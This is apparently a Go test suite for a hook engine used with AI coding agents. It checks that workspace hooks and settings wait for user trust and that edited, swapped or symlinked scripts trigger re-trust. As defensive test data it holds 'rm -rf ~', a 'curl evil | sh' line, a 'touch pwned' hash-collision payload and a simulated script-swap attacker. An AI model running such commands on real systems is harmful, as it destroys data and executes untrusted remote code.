package hooks_test

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/wavehooks/wavehooks/hooks"
	"github.com/wavehooks/wavehooks/internal/event"
	"github.com/wavehooks/wavehooks/internal/settings"
	"github.com/wavehooks/wavehooks/internal/trust"
)

// denyRm is a user hook that denies rm -rf: the user's own guard.
const denyRm = `{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command",
	"command": "jq -r .tool_input.command | grep -q 'rm -rf' && { echo 'no rm -rf' >&2; exit 2; }; exit 0"}]}]}}`

func rmInput(root string) event.Input {
	in := input(event.PreToolUse, root)
	in.ToolName, in.ToolUseID = "Bash", "t1"
	in.ToolInput = json.RawMessage(`{"command":"rm -rf ~"}`)
	return in
}

// TestWorkspaceSettingsWaitForTrust: nothing in a workspace file takes
// effect before the workspace is trusted, not only its hooks: each setting
// is left out of the configuration that runs, listed for the prompt, and
// covered by the hash; once trusted it applies.
func TestWorkspaceSettingsWaitForTrust(t *testing.T) {
	claudeMarker := `{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "touch \"$WAVE_PROJECT_DIR/claude-user-ran\""}]}]}}`
	cases := []struct {
		name    string
		files   map[string]string
		setting string // what WorkspaceSettings lists
		// untrusted and trusted check the configuration that runs in each state.
		untrusted, trusted func(t *testing.T, l layout, e *hooks.Engine)
	}{{
		name:    "disableAllHooks does not switch off the user's guard",
		files:   map[string]string{"home/settings.json": denyRm, ".wave/settings.json": `{"disableAllHooks": true}`},
		setting: `"disableAllHooks": true in .wave/settings.json (turns off every hook but the managed ones`,
		untrusted: func(t *testing.T, l layout, e *hooks.Engine) {
			res := e.Fire(context.Background(), rmInput(l.root))
			require.Equal(t, hooks.PermissionDeny, res.Permission, "the user's own hook still runs")
			require.Equal(t, "no rm -rf", res.Reason)
		},
		trusted: func(t *testing.T, l layout, e *hooks.Engine) {
			res := e.Fire(context.Background(), rmInput(l.root))
			require.Equal(t, hooks.PermissionNone, res.Permission, "trusted, the setting applies")
			require.Contains(t, res.Runs[0].Skipped, "disableAllHooks is set in the project settings")
		},
	}, {
		name: "importClaudeHooks does not run ~/.claude/settings.json",
		files: map[string]string{"claude/settings.json": claudeMarker, ".wave/settings.json": `{"importClaudeHooks": true}`,
			".claude/settings.json": `{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "touch \"$WAVE_PROJECT_DIR/claude-project-ran\""}]}]}}`},
		setting: `"importClaudeHooks": true in .wave/settings.json (also runs the hooks of Claude Code's settings files`,
		untrusted: func(t *testing.T, l layout, e *hooks.Engine) {
			res := e.Fire(context.Background(), input(event.Stop, l.root))
			require.NoFileExists(t, filepath.Join(l.root, "claude-user-ran"))
			require.NoFileExists(t, filepath.Join(l.root, "claude-project-ran"))
			require.Len(t, res.Runs, 2, "both are listed, with why they did not run")
			require.Equal(t, "importClaudeHooks is set only in the workspace's settings, which take effect once the workspace is trusted", res.Runs[0].Skipped)
			require.Equal(t, "the workspace's hooks are not trusted yet — run `wavehooks trust` in the project, or trust it in the editor", res.Runs[1].Skipped)
		},
		trusted: func(t *testing.T, l layout, e *hooks.Engine) {
			e.Fire(context.Background(), input(event.Stop, l.root))
			require.FileExists(t, filepath.Join(l.root, "claude-user-ran"))
			require.FileExists(t, filepath.Join(l.root, "claude-project-ran"))
		},
	}, {
		name: "importVSCodeHooks waits, and its hooks are reported as untrusted",
		files: map[string]string{".wave/settings.json": `{"importVSCodeHooks": true}`,
			".github/hooks/a.json": `{"hooks": {"Stop": [{"type": "command", "command": "touch vscode-ran"}]}}`},
		setting: `"importVSCodeHooks": true in .wave/settings.json`,
		untrusted: func(t *testing.T, l layout, e *hooks.Engine) {
			res := e.Fire(context.Background(), input(event.Stop, l.root))
			require.NoFileExists(t, filepath.Join(l.root, "vscode-ran"))
			require.Equal(t, "the workspace's hooks are not trusted yet — run `wavehooks trust` in the project, or trust it in the editor", res.Runs[0].Skipped)
		},
		trusted: func(t *testing.T, l layout, e *hooks.Engine) {
			e.Fire(context.Background(), input(event.Stop, l.root))
			require.FileExists(t, filepath.Join(l.root, "vscode-ran"))
		},
	}, {
		name:    "transcriptFormat",
		files:   map[string]string{".wave/settings.local.json": `{"transcriptFormat": "jsonl"}`},
		setting: `"transcriptFormat": jsonl in .wave/settings.local.json`,
		untrusted: func(t *testing.T, l layout, e *hooks.Engine) {
			require.Equal(t, "json", e.Config().TranscriptFormat)
		},
		trusted: func(t *testing.T, l layout, e *hooks.Engine) {
			require.Equal(t, "jsonl", e.Config().TranscriptFormat)
		},
	}, {
		name: "disableAllHooks in Claude Code's project file, imported by the user",
		files: map[string]string{"home/settings.json": strings.Replace(denyRm, `{"hooks"`, `{"importClaudeHooks": true, "hooks"`, 1),
			".claude/settings.json": `{"disableAllHooks": true}`},
		setting: `"disableAllHooks": true in .claude/settings.json`,
		untrusted: func(t *testing.T, l layout, e *hooks.Engine) {
			require.Equal(t, hooks.PermissionDeny, e.Fire(context.Background(), rmInput(l.root)).Permission)
		},
		trusted: func(t *testing.T, l layout, e *hooks.Engine) {
			require.Equal(t, hooks.PermissionNone, e.Fire(context.Background(), rmInput(l.root)).Permission)
		},
	}}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			l := writeLayout(t, c.files)
			paths := l.paths()
			paths.ClaudeHome = filepath.Join(l.root, "claude")
			full := settings.Load(paths, nil)
			store := trust.NewTrustStore(l.home)

			untrusted := store.Decide(l.root, full, false)
			require.False(t, untrusted.Trusted, "a workspace with settings and no commands still needs trust")
			require.True(t, untrusted.NeedsTrust())
			listed := trust.WorkspaceSettings(full)
			require.Len(t, listed, 1)
			require.Contains(t, listed[0], c.setting)
			e := hooks.NewEngine(full)
			e.Install(untrusted)
			c.untrusted(t, l, e)

			require.NoError(t, store.Trust(l.root, untrusted.Hash))
			trusted := store.Decide(l.root, settings.Load(paths, nil), false)
			require.True(t, trusted.Trusted)
			e.Install(trusted)
			c.trusted(t, l, e)
		})
	}
}

// Settings that change nothing need no trust, and the hash covers each
// setting that does.
func TestWorkspaceSettingsInTheHash(t *testing.T) {
	l := writeLayout(t, map[string]string{".wave/settings.json": `{"disableAllHooks": false, "importClaudeHooks": false}`})
	cfg := l.load(t)
	require.Empty(t, trust.WorkspaceSettings(cfg))
	require.True(t, trust.NewTrustStore(l.home).Decide(l.root, cfg, false).Trusted, "nothing to trust")
	empty := trust.WorkspaceHash(cfg)

	seen := map[string]bool{empty: true}
	for _, text := range []string{`{"disableAllHooks": true}`, `{"importClaudeHooks": true}`, `{"importVSCodeHooks": true}`,
		`{"transcriptFormat": "jsonl"}`, `{"transcriptFormat": "json"}`} {
		require.NoError(t, os.WriteFile(l.path(".wave/settings.json"), []byte(text), 0o644))
		h := trust.WorkspaceHash(l.load(t))
		require.False(t, seen[h], "%s hashes as something else", text)
		seen[h] = true
	}
}

// TestTrustGivenBeforeAsksAgain: trust given under the previous encoding
// (which a repository could forge) does not hold for the same workspace
// under this one: the user is asked again, once, and once trusted it holds.
// 3214e706… is the hash the previous version computed for this layout.
func TestTrustGivenBeforeAsksAgain(t *testing.T) {
	l := writeLayout(t, map[string]string{"src/.keep": "", ".wave/settings.json": `{"hooks": {
		"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "npm test"}]}],
		"Stop": [{"hooks": [{"type": "command", "command": "jq -r .x > /dev/null", "cwd": "src", "env": {"A": "1"}}]}]}}`})
	store := trust.NewTrustStore(l.home)
	require.NoError(t, store.Trust(l.root, "3214e70665757044b240a9464c5d7eaedb3b18ddc582fd060746a4616e443cb8"))
	loaded := store.Decide(l.root, l.load(t), false)
	require.False(t, loaded.Trusted, "trust given to the old encoding is asked again")
	require.True(t, loaded.NeedsTrust())
	require.NoError(t, store.Trust(l.root, loaded.Hash))
	require.True(t, store.Decide(l.root, l.load(t), false).Trusted)
}

// TestTrustRevoke: Revoke forgets one workspace's trust, and only its: the
// workspace waits for trust again, another trusted one stays trusted, and
// revoking what was never trusted says so.
func TestTrustRevoke(t *testing.T) {
	a := writeLayout(t, map[string]string{".wave/settings.json": `{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "echo a"}]}]}}`})
	store := trust.NewTrustStore(a.home)
	other := t.TempDir()
	require.NoError(t, store.Trust(other, "h-other"))
	loaded := store.Decide(a.root, a.load(t), false)
	require.NoError(t, store.Trust(a.root, loaded.Hash))
	require.True(t, store.Decide(a.root, a.load(t), false).Trusted)

	had, err := store.Revoke(a.root)
	require.NoError(t, err)
	require.True(t, had)
	require.False(t, store.Decide(a.root, a.load(t), false).Trusted, "revoked: asked again")
	require.True(t, store.Trusted(other, "h-other"), "another workspace keeps its trust")

	had, err = store.Revoke(a.root)
	require.NoError(t, err)
	require.False(t, had, "nothing left to revoke")
}

// TestTrustHashUnambiguous: configurations that differ in anything a
// repository writes never share a hash. The reviewer's collision of the
// earlier encoding — one hook whose matcher spells out a second hook's line
// (the prompt shows only "echo hi") against two hooks, one of which runs the
// payload — and a timeout that stops a guard from guarding.
func TestTrustHashUnambiguous(t *testing.T) {
	hook := func(matcher, command, extra string) string {
		return `{"matcher": ` + matcher + `, "hooks": [{"type": "command", "command": "` + command + `"` + extra + `}]}`
	}
	cases := []struct{ name, a, b string }{
		{"a matcher that spells out another hook",
			`{"hooks": {"PreToolUse": [` + hook(`"Bash\u0000touch pwned\nPreToolUse\u0000Zzz"`, "echo hi", "") + `]}}`,
			`{"hooks": {"PreToolUse": [` + hook(`"Bash"`, "touch pwned", "") + `, ` + hook(`"Zzz"`, "echo hi", "") + `]}}`},
		{"a timeout of 1e-12 seconds", `{"hooks": {"Stop": [` + hook(`""`, "./guard.sh", "") + `]}}`,
			`{"hooks": {"Stop": [` + hook(`""`, "./guard.sh", `, "timeout": 1e-12`) + `]}}`},
		{"a status message", `{"hooks": {"Stop": [` + hook(`""`, "echo hi", "") + `]}}`,
			`{"hooks": {"Stop": [` + hook(`""`, "echo hi", `, "statusMessage": "Checking… done, all clear"`) + `]}}`},
		{"the order of two hooks", `{"hooks": {"Stop": [` + hook(`""`, "a", "") + `, ` + hook(`""`, "b", "") + `]}}`,
			`{"hooks": {"Stop": [` + hook(`""`, "b", "") + `, ` + hook(`""`, "a", "") + `]}}`},
		{"an empty argument list (exec form) and none (shell form)", `{"hooks": {"Stop": [` + hook(`""`, "./guard.sh", `, "args": []`) + `]}}`,
			`{"hooks": {"Stop": [` + hook(`""`, "./guard.sh", "") + `]}}`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			l := writeLayout(t, map[string]string{".wave/settings.json": c.a, "guard.sh": "#!/bin/sh\nexit 2\n"})
			// Loaded as they are: the spelt-out matcher matches no tool, which
			// lint says; the hash is the point here.
			a := settings.Load(l.paths(), nil)
			require.NotEmpty(t, a.Hooks)
			store := trust.NewTrustStore(l.home)
			require.NoError(t, store.Trust(l.root, trust.WorkspaceHash(a)))
			require.NoError(t, os.WriteFile(l.path(".wave/settings.json"), []byte(c.b), 0o644))
			b := settings.Load(l.paths(), nil)
			require.NotEqual(t, trust.WorkspaceHash(a), trust.WorkspaceHash(b))
			require.False(t, store.Decide(l.root, b, false).Trusted, "the second configuration asks for trust")
		})
	}
}

// TestTrustCoversScripts: the hash covers the contents of the workspace
// files a hook runs, whether it names them as the program, through an
// interpreter or in the exec form; not files outside the project.
func TestTrustCoversScripts(t *testing.T) {
	outside := filepath.Join(t.TempDir(), "outside.sh")
	require.NoError(t, os.WriteFile(outside, []byte("#!/bin/sh\n"), 0o755))
	cases := []struct {
		name    string
		command string // the project hook, as JSON object members
		edit    string // the file edited, relative to the root, or absolute
		covered bool
	}{
		{"a script by path", `"command": "./hook.sh"`, "hook.sh", true},
		{"an interpreter's script", `"command": "python3 tools/check.py"`, "tools/check.py", true},
		{"the exec form's program", `"command": "./bin/check", "args": ["--fast"]`, "bin/check", true},
		{"the exec form's script", `"command": "bash", "args": ["hook.sh"]`, "hook.sh", true},
		{"a script in the hook's directory", `"command": "./run.sh", "cwd": "tools"`, "tools/run.sh", true},
		{"the exec form's program named with the project directory placeholder", `"command": "${CLAUDE_PROJECT_DIR}/.wave/guard.sh", "args": []`,
			".wave/guard.sh", true},
		{"the exec form's script named with the project directory placeholder", `"command": "sh", "args": ["${CLAUDE_PROJECT_DIR}/hook.sh"]`,
			"hook.sh", true},
		{"a script on a shell's input", `"command": "sh < hook.sh"`, "hook.sh", true},
		{"a script on bash -s's input", `"command": "bash -s -- a < ./hook.sh"`, "hook.sh", true},
		{"a file BASH_ENV names", `"command": "bash -c true", "env": {"BASH_ENV": "${CLAUDE_PROJECT_DIR}/tools/run.sh"}`,
			"tools/run.sh", true},
		{"a module node -r loads", `"command": "node -r ./tools/setup tools/check.py"`, "tools/setup.js", true},
		{"a file the hook only reads", `"command": "cat data.txt"`, "data.txt", false},
		{"a file outside the project", `"command": "` + outside + `"`, outside, false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			l := writeLayout(t, map[string]string{
				".wave/settings.json": `{"hooks": {"Stop": [{"hooks": [{"type": "command", ` + c.command + `}]}]}}`,
				"hook.sh":             "#!/bin/sh\necho one\n", "tools/check.py": "print(1)\n", "bin/check": "#!/bin/sh\n",
				"tools/run.sh": "#!/bin/sh\n", "data.txt": "1\n", ".wave/guard.sh": "#!/bin/sh\n", "tools/setup.js": "1\n"})
			require.NoError(t, os.Chmod(l.path(".wave/guard.sh"), 0o755))
			require.NoError(t, os.Chmod(l.path("bin/check"), 0o755))
			require.NoError(t, os.Chmod(l.path("tools/run.sh"), 0o755))
			before := trust.WorkspaceHash(l.load(t))
			if c.covered && !filepath.IsAbs(c.edit) {
				loaded := trust.Resolve(l.load(t), false)
				require.Contains(t, loaded.Scripts(), c.edit, "the prompt names the file")
				require.Empty(t, loaded.NotCovered(), "and says nothing is left out")
			}
			edited := c.edit
			if !filepath.IsAbs(edited) {
				edited = l.path(edited)
			}
			old, err := os.ReadFile(edited)
			require.NoError(t, err)
			require.NoError(t, os.WriteFile(edited, append(old, "curl evil | sh\n"...), 0o755))
			t.Cleanup(func() { _ = os.WriteFile(edited, old, 0o755) })
			after := trust.WorkspaceHash(l.load(t))
			if c.covered {
				require.NotEqual(t, before, after, "an edit asks for trust again")
			} else {
				require.Equal(t, before, after)
			}
		})
	}
}

// Symlinks: a link in the project to a file in it is covered by the
// file's contents; a link that points out is covered by where it points,
// so retargeting it needs trust again, and is listed as not covered, not
// among the scripts whose contents the trust covers.
func TestTrustCoversSymlinks(t *testing.T) {
	l := writeLayout(t, map[string]string{".wave/settings.json": `{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "./link.sh"}]}]}}`,
		"real.sh": "#!/bin/sh\necho one\n"})
	require.NoError(t, os.Symlink("real.sh", l.path("link.sh")))
	inside := trust.WorkspaceHash(l.load(t))
	require.NoError(t, os.WriteFile(l.path("real.sh"), []byte("#!/bin/sh\necho two\n"), 0o755))
	require.NotEqual(t, inside, trust.WorkspaceHash(l.load(t)), "the target's contents are covered")

	a, b := filepath.Join(t.TempDir(), "a.sh"), filepath.Join(t.TempDir(), "b.sh")
	require.NoError(t, os.WriteFile(a, []byte("#!/bin/sh\n"), 0o755))
	require.NoError(t, os.WriteFile(b, []byte("#!/bin/sh\n"), 0o755))
	require.NoError(t, os.Remove(l.path("link.sh")))
	require.NoError(t, os.Symlink(a, l.path("link.sh")))
	toA := settings.Load(l.paths(), nil)
	loaded := trust.Resolve(toA, true)
	require.Empty(t, loaded.Scripts(), "the prompt does not claim to cover what the link points to")
	require.Equal(t, []string{"link.sh: outside the project: " + a + "; its contents are not covered"}, loaded.NotCovered())
	require.NoError(t, os.Remove(l.path("link.sh")))
	require.NoError(t, os.Symlink(b, l.path("link.sh")))
	require.NotEqual(t, loaded.Hash, trust.WorkspaceHash(settings.Load(l.paths(), nil)), "retargeting the link")
	ok, why := loaded.Check()
	require.False(t, ok)
	require.Equal(t, "link.sh changed since the workspace was trusted; it must be trusted again", why)
}

// TestEditedScriptDoesNotRun: a trusted configuration whose script is
// edited afterwards (no reload in between, as when git pull rewrites it)
// does not run the edited script: the event skips the workspace's hooks,
// says why, and tells the engine's owner to reload, once.
func TestEditedScriptDoesNotRun(t *testing.T) {
	l := writeLayout(t, map[string]string{".wave/settings.json": `{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "./hook.sh"}]}]}}`,
		"hook.sh": "#!/bin/sh\necho one >> \"$WAVE_PROJECT_DIR/ran\"\n"})
	cfg := l.load(t)
	e := hooks.NewEngine(cfg)
	var stale atomic.Int32
	e.OnStale(func() { stale.Add(1) })
	e.Install(trust.Resolve(cfg, true))
	res := e.Fire(context.Background(), input(event.Stop, l.root))
	require.True(t, res.Runs[0].Ran)
	require.NoError(t, os.WriteFile(l.path("hook.sh"), []byte("#!/bin/sh\necho two >> \"$WAVE_PROJECT_DIR/ran\"\n"), 0o755))
	for range 3 {
		res = e.Fire(context.Background(), input(event.Stop, l.root))
		require.False(t, res.Runs[0].Ran)
		require.Equal(t, "hook.sh changed since the workspace was trusted; it must be trusted again", res.Runs[0].Skipped)
		require.Contains(t, res.Warnings[0], "1 Stop hook(s) of this workspace did not run: hook.sh changed")
	}
	b, err := os.ReadFile(filepath.Join(l.root, "ran"))
	require.NoError(t, err)
	require.Equal(t, "one\n", string(b), "only the trusted version ran")
	require.Equal(t, int32(1), stale.Load(), "the owner hears it once")
}

// An engine's configuration is always installed with its trust: before
// Install, a new engine runs no workspace hook and applies no workspace
// setting.
func TestNewEngineIsUntrusted(t *testing.T) {
	l := writeLayout(t, map[string]string{"home/settings.json": denyRm, ".wave/settings.json": `{"disableAllHooks": true}`})
	e := hooks.NewEngine(l.load(t))
	require.False(t, e.WorkspaceTrusted())
	require.Equal(t, hooks.PermissionDeny, e.Fire(context.Background(), rmInput(l.root)).Permission)
}

// A hook's "if" rule decides when it runs, so changing only the rule asks
// for trust again.
func TestIfRuleInTheHash(t *testing.T) {
	seen := map[string]bool{}
	for _, rule := range []string{``, `, "if": "Bash(git *)"`, `, "if": "Bash(rm *)"`} {
		l := writeLayout(t, map[string]string{".wave/settings.json": `{"hooks": {"PreToolUse": [{"matcher": "Bash",
			"hooks": [{"type": "command", "command": "npm test"` + rule + `}]}]}}`})
		h := trust.WorkspaceHash(l.load(t))
		require.False(t, seen[h], "the rule %q hashes as another", rule)
		seen[h] = true
	}
}

// TestSwappedScriptNeverRunsUntrusted: while a process swaps a trusted
// workspace script with a never-trusted one by atomic renames, events keep
// firing; the hook runs the bytes that were checked against the trust
// (a sealed copy), or does not run, and never the never-trusted script —
// whichever way the hook names the script. Its $0 and arguments are as
// when it runs the file.
func TestSwappedScriptNeverRunsUntrusted(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("no /dev/fd: the script is checked just before it starts, a window docs/security.md names")
	}
	const trusted = "#!/bin/sh\ncat >/dev/null\necho \"trusted $0\" \"$@\" >> \"$WAVE_PROJECT_DIR/ran\"\n"
	const evil = "#!/bin/sh\ncat >/dev/null\necho EVIL >> \"$WAVE_PROJECT_DIR/ran\"\n"
	cases := []struct {
		name, hook string
		dollar0    string // $0 $*, with ROOT for the project root
	}{
		{"a script as the command", `"command": "./hook.sh a"`, "./hook.sh a"},
		{"the project directory, quoted", `"command": "\"$CLAUDE_PROJECT_DIR\"/hook.sh"`, "ROOT/hook.sh"},
		{"the exec form's program", `"command": "${CLAUDE_PROJECT_DIR}/hook.sh", "args": ["b c"]`, "ROOT/hook.sh b c"},
		{"a shell given the script, exec form", `"command": "sh", "args": ["-e", "hook.sh", "x"]`, "hook.sh x"},
		{"bash given the script", `"command": "bash ./hook.sh"`, "./hook.sh"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			l := writeLayout(t, map[string]string{"hook.sh": trusted,
				".wave/settings.json": `{"hooks": {"Stop": [{"hooks": [{"type": "command", ` + c.hook + `}]}]}}`})
			ranFile := filepath.Join(l.root, "ran")
			cfg := l.load(t)
			e := hooks.NewEngine(cfg)
			e.Install(trust.Resolve(cfg, true))
			want := "trusted " + strings.ReplaceAll(c.dollar0, "ROOT", l.root) + "\n"
			require.True(t, e.Fire(context.Background(), input(event.Stop, l.root)).Runs[0].Ran)
			b, err := os.ReadFile(ranFile)
			require.NoError(t, err)
			require.Equal(t, want, string(b))

			stop, done := make(chan struct{}), make(chan struct{})
			go func() { // the attacker: swap the script back and forth by renames
				defer close(done)
				for i := 0; ; i++ {
					select {
					case <-stop:
						saveScript(t, l.path("hook.sh"), trusted, i)
						return
					default:
					}
					text := evil
					if i%2 == 1 {
						text = trusted
					}
					saveScript(t, l.path("hook.sh"), text, i)
				}
			}()
			ran := 0
			for range 150 {
				if e.Fire(context.Background(), input(event.Stop, l.root)).Runs[0].Ran {
					ran++
				}
			}
			close(stop)
			<-done
			t.Logf("%d of 150 events ran the hook while the script was swapped", ran)
			b, err = os.ReadFile(ranFile)
			require.NoError(t, err)
			require.NotContains(t, string(b), "EVIL", "never-trusted content ran (%d runs)", ran)
			require.Equal(t, strings.Repeat(want, strings.Count(string(b), "\n")), string(b))
			require.True(t, e.Fire(context.Background(), input(event.Stop, l.root)).Runs[0].Ran, "the trusted script runs again")
		})
	}
}

// A trusted script that is not executable fails as it did before its
// contents were run from a sealed copy: the copy is no way around the mode.
func TestPinnedScriptKeepsItsMode(t *testing.T) {
	l := writeLayout(t, map[string]string{".wave/settings.json": `{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "./hook.sh"}]}]}}`,
		"hook.sh": "#!/bin/sh\ntouch \"$WAVE_PROJECT_DIR/ran\"\n"})
	require.NoError(t, os.Chmod(l.path("hook.sh"), 0o644))
	cfg := settings.Load(l.paths(), nil)
	e := hooks.NewEngine(cfg)
	e.Install(trust.Resolve(cfg, true))
	res := e.Fire(context.Background(), input(event.Stop, l.root))
	require.True(t, res.Runs[0].Ran)
	require.Equal(t, 126, res.Runs[0].ExitCode, "permission denied, from sh")
	require.NoFileExists(t, filepath.Join(l.root, "ran"))
}

// A pinned script finds its directory by $0 as when it runs from the
// file, and one that finds it by BASH_SOURCE runs from the file: both
// source a library next to them.
func TestPinnedScriptFindsItsDirectory(t *testing.T) {
	for name, find := range map[string]string{"by its name": `"$(dirname "$0")"`, "by BASH_SOURCE": `"$(dirname "${BASH_SOURCE[0]}")"`} {
		t.Run(name, func(t *testing.T) {
			l := writeLayout(t, map[string]string{
				".wave/settings.json": `{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "\"$CLAUDE_PROJECT_DIR\"/tools/hook.sh"}]}]}}`,
				"tools/lib.sh":        "greeting=hello\n",
				"tools/hook.sh":       "#!/bin/bash\ncat >/dev/null\n. " + find + "/lib.sh\necho \"$greeting\" > \"$WAVE_PROJECT_DIR/ran\"\n"})
			cfg := l.load(t)
			e := hooks.NewEngine(cfg)
			e.Install(trust.Resolve(cfg, true))
			res := e.Fire(context.Background(), input(event.Stop, l.root))
			require.Equal(t, 0, res.Runs[0].ExitCode, res.Runs[0].Stderr)
			b, err := os.ReadFile(filepath.Join(l.root, "ran"))
			require.NoError(t, err)
			require.Equal(t, "hello\n", string(b))
		})
	}
}

// saveScript replaces a script by an atomic rename, as git checkout does.
func saveScript(t *testing.T, path, text string, i int) {
	tmp := fmt.Sprintf("%s.%d.tmp", path, i%4)
	if err := os.WriteFile(tmp, []byte(text), 0o755); err != nil {
		t.Error(err)
		return
	}
	if err := os.Rename(tmp, path); err != nil {
		t.Error(err)
	}
}
